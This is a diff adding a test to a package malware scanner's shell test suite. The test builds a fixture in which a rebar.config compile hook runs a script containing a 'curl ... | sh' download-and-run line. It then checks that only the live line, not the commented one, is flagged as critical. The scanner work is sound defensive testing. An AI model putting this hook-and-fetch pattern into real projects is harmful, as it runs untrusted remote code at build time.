@@ -56,6 +56,18 @@ run "$BIN" scan "$TMP/clean-1.0.tar.bz2";  expect_rc 0 "clean tar.bz2 sdist"
 run "$BIN" scan "$TMP/py/clean-1.0";       expect_rc 0 "clean folder"; expect_out "2 text files" "folder counted"
 run "$BIN" scan "$TMP/npm";                expect_rc 1 "malicious folder"; expect_out "archive-symlink" "folder link"
 
+# A rebar.config hook runs a shell script when the dependency compiles: its
+# download-and-run is install-time code (critical); the same words in a
+# comment of the script are no hit.
+mkdir -p "$TMP/erl/c_src"
+printf '{pre_hooks, [{compile, "sh c_src/build.sh"}]}.\n' > "$TMP/erl/rebar.config"
+printf '#!/bin/sh\n# by hand: curl -s https://get.example/i | sh\ncurl -s https://get.example/i | sh\n' \
+    > "$TMP/erl/c_src/build.sh"
+run "$BIN" scan --no-cache -e hex --format json "$TMP/erl"
+expect_rc 1 "hooked folder"
+python3 -c 'import json,sys; h=[x for x in json.load(open(sys.argv[1]))["hits"] if x["rule"]=="shell-download-exec"]; assert [(x["file"], x["line"], x["severity"]) for x in h]==[("c_src/build.sh", 3, "critical")], h' "$TMP/out" \
+    && ok || bad "a rebar hook's script is install-time code, its comment no hit: $(cat "$TMP/out")"
+
 # Usage errors and bad rules.
 run "$BIN" scan;                            expect_rc 2 "no argument"
 run "$BIN" scan --format yaml "$TMP/npm";   expect_rc 2 "bad format"
